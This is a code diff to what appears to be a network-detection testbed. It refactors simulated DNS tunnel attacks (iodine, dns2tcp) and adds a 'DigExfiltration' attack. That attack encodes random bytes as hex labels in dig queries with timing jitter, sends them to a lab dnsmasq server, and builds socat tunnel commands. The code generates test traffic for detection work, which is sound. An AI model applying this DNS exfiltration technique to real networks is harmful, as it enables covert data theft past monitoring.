@@ -2,90 +2,54 @@
 
 from __future__ import annotations
 
-from abc import abstractmethod
+import time
+from collections.abc import Callable, Mapping
 from dataclasses import dataclass
 
 from wirelens_testbed.attacks.attack import OVERHEAD_PACKETS, Attack, Bounds, Scene
 from wirelens_testbed.attacks.network import Machine, tunnel_domain
+from wirelens_testbed.attacks.tunnel import LOCAL_PORT, SINK_PORT, Tunnel
 from wirelens_testbed.scenario import Table
 
 IODINE_PROGRAMS = {"iodine": "iodine", "iodined": "iodine", "socat": "socat"}
 DNS2TCP_PROGRAMS = {"dns2tcpc": "dns2tcp", "dns2tcpd": "dns2tcp", "socat": "socat"}
-PROGRAMS = IODINE_PROGRAMS | DNS2TCP_PROGRAMS
+DIG_PROGRAMS = {"dig": "bind9-dnsutils", "dnsmasq": "dnsmasq-base"}
+PROGRAMS = IODINE_PROGRAMS | DNS2TCP_PROGRAMS | DIG_PROGRAMS
 
 IODINE_QUERY_TYPES = ("NULL", "PRIVATE", "TXT", "SRV", "MX", "CNAME")
 DNS2TCP_QUERY_TYPES = ("TXT", "KEY")
+DIG_QUERY_TYPES = ("A", "AAAA")
 
-SINK_PORT, LOCAL_PORT = 9000, 9001
-READY_TIME_MAX_S = 30.0
 # iodine tries which size of answer comes through before it carries anything.
 HANDSHAKE_PACKETS = 400
 # A question carries at most 255 bytes of name; less is left of it by headers and encoding.
 BYTES_PER_QUESTION = 40
 IDLE_QUESTIONS_PER_S = 20
+LABEL_SIZE_MAX_BYTES = 62  # in hexadecimal digits, below the 63 of RFC 1035
 
 
 @dataclass
-class Tunnel(Attack):
-    """A tunnel through which some data is sent in portions."""
+class DnsTunnel(Tunnel):
+    """A tunnel whose questions the testbed's resolver hands on to the server outside."""
 
-    name: str
-    query_type: str
-    payload_size_bytes: int
-    portion_count: int
-    duration_s: float
+    query_type: str = ""
     needs: frozenset[str] = frozenset({"names"})
-    machine_count: int = 2  # one inside, and the server outside that the questions end at
 
-    def __post_init__(self) -> None:
+    @property
+    def carried_packets_max(self) -> int:
         questions = HANDSHAKE_PACKETS + self.payload_size_bytes / BYTES_PER_QUESTION
         questions += IDLE_QUESTIONS_PER_S * self.duration_s
         # The question from inside, and the answer from the attacker's server.
-        packets_max = OVERHEAD_PACKETS + round(2 * questions)
-        self.bounds = Bounds(packets_max, self.duration_s + READY_TIME_MAX_S + 10)
+        return round(2 * questions)
+
+    def wait_for_server(self, scene: Scene, outside: Machine) -> None:
+        scene.lab.wait_for_listener(outside.name, 53, "udp")
 
     def launch(self, scene: Scene) -> dict[str, object]:
-        inside, outside = scene.attackers
-        sink = ["socat", "-u", f"TCP-LISTEN:{SINK_PORT},fork,reuseaddr", "OPEN:/dev/null"]
-        programs = [scene.start_tool(outside, *sink)]
-        try:
-            programs.append(scene.start_tool(outside, *self.server_command(scene, outside)))
-            scene.lab.wait_for_listener(outside.name, 53, "udp")
-            programs.append(scene.start_tool(inside, *self.client_command(scene)))
-            scene.lab.wait_until(
-                lambda: self.is_ready(scene), f"{self.name} connected", READY_TIME_MAX_S
-            )
-            self._send(scene)
-        finally:
-            scene.lab.stop(*reversed(programs))
-        return {"resolver": scene.servers["names"].address, "bytes": self.payload_size_bytes}
-
-    def _send(self, scene: Scene) -> None:
-        portion_size_bytes = self.payload_size_bytes // self.portion_count
-        pause_s = self.duration_s / self.portion_count
-        for _ in range(self.portion_count):
-            data = scene.rng.randbytes(portion_size_bytes)
-            scene.run_tool("socat", "-u", "-", self.entrance(scene), data_in=data)
-            scene.lab.pause(pause_s * scene.rng.uniform(0.5, 1.0))
-
-    @abstractmethod
-    def server_command(self, scene: Scene, outside: Machine) -> list[str]:
-        """What runs outside, in the foreground."""
-
-    @abstractmethod
-    def client_command(self, scene: Scene) -> list[str]:
-        """What runs inside, in the foreground."""
-
-    @abstractmethod
-    def is_ready(self, scene: Scene) -> bool:
-        """Whether data can be sent."""
-
-    @abstractmethod
-    def entrance(self, scene: Scene) -> str:
-        """Where data goes in, in socat's words."""
+        return {"resolver": scene.servers["names"].address, **super().launch(scene)}
 
 
-class Iodine(Tunnel):
+class Iodine(DnsTunnel):
     """IP over DNS, by TUN devices at both ends."""
 
     programs = IODINE_PROGRAMS
@@ -111,7 +75,7 @@ class Iodine(Tunnel):
         return f"TCP:{_tunnel_network(scene)}.1:{SINK_PORT}"
 
 
-class Dns2tcp(Tunnel):
+class Dns2tcp(DnsTunnel):
     """One TCP connection over DNS."""
 
     programs = DNS2TCP_PROGRAMS
@@ -131,12 +95,56 @@ class Dns2tcp(Tunnel):
             "-l", str(LOCAL_PORT), "-T", self.query_type, scene.servers["names"].address,
         ]  # fmt: skip
 
-    def is_ready(self, scene: Scene) -> bool:
-        listeners = scene.lab.run(scene.attacker.name, "ss", "-Hltn", f"sport = :{LOCAL_PORT}")
-        return bool(listeners)
 
-    def entrance(self, scene: Scene) -> str:
-        return f"TCP:127.0.0.1:{LOCAL_PORT}"
+@dataclass
+class DigExfiltration(Attack):
+    """Data leaves a host in names, one question at a time, slowly; each is answered."""
+
+    programs = DIG_PROGRAMS
+
+    name: str
+    question_count: int
+    bytes_per_question: int
+    interval_s: float
+    jitter: float
+    query_type: str
+    needs: frozenset[str] = frozenset({"names"})
+    machine_count: int = 2
+
+    def __post_init__(self) -> None:
+        # A question and its answer, each repeated at worst, and address resolution.
+        packets_max = OVERHEAD_PACKETS + 8 * self.question_count
+        time_max_s = 20 + self.question_count * (self.interval_s * (1 + self.jitter) + 0.3)
+        self.bounds = Bounds(packets_max, time_max_s)
+
+    def launch(self, scene: Scene) -> dict[str, object]:
+        outside = scene.attackers[1]
+        domain, resolver = tunnel_domain(scene.number), scene.servers["names"].address
+        server = scene.start_tool(
+            outside, "dnsmasq", "--keep-in-foreground", "--conf-file=/dev/null", "--pid-file=",
+            "--user=nobody", "--log-facility=-", "--no-resolv", "--no-hosts",
+            f"--listen-address={outside.address}", "--bind-interfaces",
+            f"--address=/{domain}/192.0.2.99", f"--address=/{domain}/2001:db8::99",
+        )  # fmt: skip
+        answered = 0
+        try:
+            scene.lab.wait_for_listener(outside.name, 53, "udp")
+            for number in range(self.question_count):
+                started_s = time.monotonic()
+                digits = scene.rng.randbytes(self.bytes_per_question).hex()
+                starts = range(0, len(digits), LABEL_SIZE_MAX_BYTES)
+                labels = [digits[start : start + LABEL_SIZE_MAX_BYTES] for start in starts]
+                said = scene.run_tool(
+                    "dig", "+short", "+tries=1", "+time=3", f"@{resolver}",
+                    ".".join([f"{number:x}", *labels, domain]), self.query_type,
+                    statuses_wanted=(0, 9),  # 9: no answer
+                )  # fmt: skip
+                answered += "192.0.2.99" in said or "2001:db8::99" in said
+                due_s = self.interval_s * scene.rng.uniform(1 - self.jitter, 1 + self.jitter)
+                scene.lab.pause(started_s + due_s - time.monotonic())
+        finally:
+            scene.lab.stop(server)
+        return {"resolver": resolver, "questions": self.question_count, "answered": answered}
 
 
 def _tunnel_network(scene: Scene) -> str:
@@ -157,4 +165,19 @@ def parse(name: str, table: Table) -> Attack:
     )
 
 
-ATTACKS = dict.fromkeys(("iodine", "dns2tcp"), parse)
+def parse_dig(name: str, table: Table) -> Attack:
+    return DigExfiltration(
+        name=name,
+        question_count=table.take("questions", int, 20, minimum=1, maximum=5000),
+        # Three labels of them, a number and the domain fit into a name of 255 bytes.
+        bytes_per_question=table.take("bytes_per_question", int, 30, minimum=1, maximum=93),
+        interval_s=table.take("interval_s", float, 0.5, minimum=0.05, maximum=600),
+        jitter=table.take("jitter", float, 0.3, minimum=0, maximum=0.9),
+        query_type=table.take("query_type", str, "A", among=DIG_QUERY_TYPES),
+    )
+
+
+ATTACKS: Mapping[str, Callable[[str, Table], Attack]] = {
+    **dict.fromkeys(("iodine", "dns2tcp"), parse),
+    "dig_exfiltration": parse_dig,
+}
